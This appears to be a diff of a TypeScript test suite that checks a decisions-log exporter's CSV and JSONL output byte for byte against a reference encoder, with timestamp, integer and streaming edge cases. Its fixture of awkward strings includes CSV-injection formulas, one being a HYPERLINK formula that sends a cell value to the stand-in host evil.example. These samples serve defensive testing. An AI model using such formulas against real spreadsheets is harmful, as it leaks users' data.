@@ -1,6 +1,8 @@
 // The export's bytes are a contract (imports, spreadsheets, audits): a varied log exported by exportDecisions must come
 // out byte for byte as the reference encoder below writes it. The reference is the straightforward encoder Tandem
 // shipped before the export was made to stream into buffers (row objects, a string per line), kept here as the spec.
+// The faster paths (times and integers written as digits, the join left out without redaction, quotes doubled from a
+// scratch buffer, several chunks in flight) are each held to it here, on values at the edges of those paths.
 import { PassThrough, Writable } from 'node:stream';
 import { buffer } from 'node:stream/consumers';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -67,6 +69,7 @@ const NASTY = [
   '\u0000nul and \u0007bell',
   '\\ backslash \\\\',
   '\u2028line separator\u2029paragraph',
+  'lone \uD800 surrogate', // stored as U+FFFD: SQLite holds UTF-8
   // Formulas a spreadsheet would run (CSV injection), and values that start with the apostrophe that neutralises them.
   '=1+1 @SUM(A1) order not in ERP',
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
@@ -167,5 +170,115 @@ describe('export bytes', () => {
       },
     });
     await expect(exportDecisions(createDecisionsRepo(db), 'csv', {}, out)).rejects.toThrow(/closed/);
+  });
+});
+
+describe('export bytes at the edges of the fast paths', () => {
+  let dir: ReturnType<typeof tempDir>;
+  let db: Db;
+  const ISO_FIRST = Date.parse('0000-01-01T00:00:00.000Z');
+  const ISO_LAST = Date.parse('9999-12-31T23:59:59.999Z');
+
+  beforeAll(() => {
+    dir = tempDir();
+    db = openDatabase(`${dir.path}/tandem.db`);
+    const repo = createDecisionsRepo(db);
+    // Times the digits cover (years 0000–9999, leap days, before 1970, each millisecond digit) and the ones toISOString
+    // writes otherwise (a sign and six digits), up to the last time a Date holds.
+    const times = [
+      ISO_FIRST, ISO_FIRST + 1, ISO_FIRST - 1, ISO_LAST, ISO_LAST - 1, ISO_LAST + 1, 8.64e15, -8.64e15, 0, -1, 1, 999, 1000, -999, -1000, -1001,
+      ...['0000-02-29T12:00:00Z', '1600-02-29T23:59:59.999Z', '1900-02-28T23:59:59.999Z', '1900-03-01T00:00:00Z', '1969-12-31T23:59:59.999Z', '2000-02-29T00:00:00.001Z', '2024-12-31T23:59:59.990Z', '2100-03-01T00:00:00.100Z', '9999-02-28T01:02:03.004Z'].map(Date.parse),
+    ];
+    let seed = 11;
+    const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) % 2147483648), seed % n);
+    // A spread over the whole range, and runs of times within a day and across midnight (the date part is kept per day).
+    for (let i = 0; i < 3000; i++) times.push(ISO_FIRST - 1e12 + Math.floor((rnd(1 << 30) / (1 << 30)) * (ISO_LAST - ISO_FIRST + 2e12)) + rnd(1000));
+    for (let i = 0; i < 300; i++) times.push(Date.parse('2026-03-28T23:59:50Z') + i * 97);
+    // Integers the digits cover (safe ones) and the ones String(n) writes (past 2^53, as better-sqlite3 reads them).
+    const ints = [0, 1, 9, 10, 99, 100, 101, 999, 1000, 65_535, 2 ** 31 - 1, 2 ** 31, 2 ** 32, 1e15 - 1, 1e15, 2 ** 53 - 1, -(2 ** 53 - 1), 2 ** 53, 2 ** 53 + 2, 1e16, 9e18, -9e18, -1, -9, -10, -123_456_789, null];
+    const confidences = [0.7, 0.1 + 0.2, 0.6799999999999999, 0.5700000000000001, 1, 0, -0, 1e-7, 1e-6, 5e-324, 1e21, 1e20, 123456789.5, -0.25, Infinity, -Infinity, 2 ** 53 + 2, Number.MAX_VALUE, Number.MIN_VALUE];
+    db.transaction(() => {
+      times.forEach((decidedAt, i) => {
+        const ms = ints[i % ints.length]!;
+        repo.insert({ id: `e-${i}`, ticketId: 'elsewhere:1', kind: 'triage', triageId: `t-${i}`, runId: null, stepId: null, mapId: i % 3 ? `map,${i}` : null, mapVersion: ints[(i * 7) % ints.length]!, actor: 'ann', decidedAt, suggested: 'x', final: 'x', verdict: 'accepted', confidence: confidences[i % confidences.length]!, reason: null, decisionMs: ms });
+      });
+    })();
+  });
+  afterAll(() => {
+    db.close();
+    dir.cleanup();
+  });
+
+  for (const format of ['csv', 'jsonl'] as const) {
+    it(`${format}: the same bytes as the reference`, async () => {
+      const out = new PassThrough();
+      const done = buffer(out);
+      const n = await exportDecisions(createDecisionsRepo(db), format, {}, out);
+      const bytes = await done;
+      expect(n).toBe(3325);
+      expect(bytes.equals(referenceExport(db, format, {}, false))).toBe(true);
+    });
+  }
+});
+
+describe('export flow', () => {
+  let dir: ReturnType<typeof tempDir>;
+  let db: Db;
+  /** The export's bound on bytes handed to the stream and not yet written (MAX_IN_FLIGHT in export.ts). */
+  const IN_FLIGHT = 1024 * 1024;
+
+  beforeAll(() => {
+    dir = tempDir();
+    db = openDatabase(`${dir.path}/tandem.db`);
+    const repo = createDecisionsRepo(db);
+    const note = 'Refund, "as agreed", ünïcödé '.repeat(12);
+    db.transaction(() => {
+      for (let i = 0; i < 8000; i++) {
+        const suggested = JSON.stringify({ connector: 'payments', amount: 4500 + i, note });
+        repo.insert({ id: `f-${i}`, ticketId: 'elsewhere:1', kind: 'step', triageId: null, runId: `r-${i}`, stepId: 'refund', mapId: 'refund_request', mapVersion: 3, actor: 'ann', decidedAt: 1_790_000_000_000 + i * 1000, suggested, final: suggested, verdict: 'accepted', confidence: 0.9, reason: null, decisionMs: 900 });
+      }
+    })();
+  });
+  afterAll(() => {
+    db.close();
+    dir.cleanup();
+  });
+
+  it('hands the stream several chunks at a time while it writes, never much more than 1 MiB not yet written', async () => {
+    const parts: Buffer[] = [];
+    let pending = 0;
+    let most = 0;
+    const slow = new Writable({
+      highWaterMark: 1,
+      writev(chunks, cb) {
+        const bytes = chunks.reduce((sum, c) => sum + (c.chunk as Buffer).length, 0);
+        for (const c of chunks) parts.push(Buffer.from(c.chunk as Buffer));
+        setImmediate(() => ((pending -= bytes), cb()));
+      },
+    });
+    const write = slow.write.bind(slow);
+    slow.write = ((chunk: Buffer, cb: (err?: Error | null) => void) => {
+      pending += chunk.length;
+      most = Math.max(most, pending);
+      return write(chunk, cb);
+    }) as typeof slow.write;
+    const n = await exportDecisions(createDecisionsRepo(db), 'csv', {}, slow);
+    const all = Buffer.concat(parts);
+    expect(n).toBe(8000);
+    expect(all.length).toBeGreaterThan(4 * IN_FLIGHT);
+    expect(all.equals(referenceExport(db, 'csv', {}, false))).toBe(true);
+    // More than one 64 KiB chunk waits to be written (the export does not stop at each), and never more than the bound
+    // plus the chunks of the row being written when it was reached.
+    expect(most).toBeGreaterThan(2 * 64 * 1024);
+    expect(most).toBeLessThan(IN_FLIGHT + 2 * 64 * 1024);
+  });
+
+  it("fails with the stream's own error when a write fails (a full disk)", async () => {
+    const out = new Writable({
+      write(_chunk: Buffer, _enc, cb) {
+        setImmediate(() => cb(Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' })));
+      },
+    });
+    await expect(exportDecisions(createDecisionsRepo(db), 'csv', {}, out)).rejects.toThrow(/ENOSPC/);
   });
 });
